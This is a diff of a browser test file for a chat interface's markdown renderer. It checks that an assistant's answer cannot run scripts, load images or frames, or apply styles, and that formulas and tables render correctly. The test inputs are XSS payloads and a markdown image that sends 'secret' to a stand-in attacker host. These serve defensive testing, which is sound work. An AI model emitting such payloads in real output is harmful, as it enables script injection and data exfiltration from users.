@@ -35,7 +35,7 @@ async function show(content, more = {}) {
 test("no markup of a model runs, loads or styles", async () => {
   const { page, problems, close } = await show([
     "<img src=x onerror=\"window.hit=1\"><script>window.hit=2</script><svg onload=\"window.hit=3\">",
-    "", "[click](javascript:window.hit=4) [data](data:text/html,<script>hit=5</script>) <a href=\"javascript:hit=6\">x</a>",
+    "", "[click](javascript:window.hit=4) [data](data:text/html,<script>hit=5</script>) <a href=\"javascript:hit=6\">x</a> [here](/api/app/v1/export)",
     "", "![picture](https://evil.example/leak?q=secret)", "", "<style>body{display:none}</style><iframe src=\"https://evil.example\">",
     "", "[a bank](https://evil.example/login) and https://plain.example/path",
     "", "$\\href{javascript:window.hit=7}{x}$ $\\htmlStyle{color:red}{y}$ \\(\\unicode{x}\\)",
@@ -46,7 +46,7 @@ test("no markup of a model runs, loads or styles", async () => {
   assert.equal(await page.evaluate(() => window.hit), undefined);
   const answer = page.locator("article.assistant .markdown");
   assert.equal(await answer.locator("img, script, svg, style, iframe, [style], [onclick], [onerror]").count(), 0);
-  const links = await answer.locator("a").evaluateAll((all) => all.map((a) => [a.href, a.rel, a.target]));
+  const links = await answer.locator("a[href]").evaluateAll((all) => all.map((a) => [a.href, a.rel, a.target]));
   assert.deepEqual(links.map(([href]) => href), [
     "https://evil.example/leak?q=secret", "https://evil.example/", "https://evil.example/login", "https://plain.example/path",
   ]);
@@ -63,6 +63,9 @@ test("formulas, tables and code are shown as such", async () => {
   ].join("\n"));
   assert.equal(await page.locator("article.assistant math").count(), 5);
   assert.equal(await page.locator("article.assistant .formula").count(), 2);
+  assert.equal(await page.locator("menclose").evaluate((box) => getComputedStyle(box).borderTopWidth), "1px");
+  assert.equal(await page.locator("math[display=block]").count(), 2);
+  assert.equal(await page.locator("td.to-right").count(), 1);
   const text = await page.locator("article.assistant .markdown").innerText();
   assert.match(text, /\$5 and \$6 are money/);
   assert.match(text, /An unfinished \(x \+ 1/);
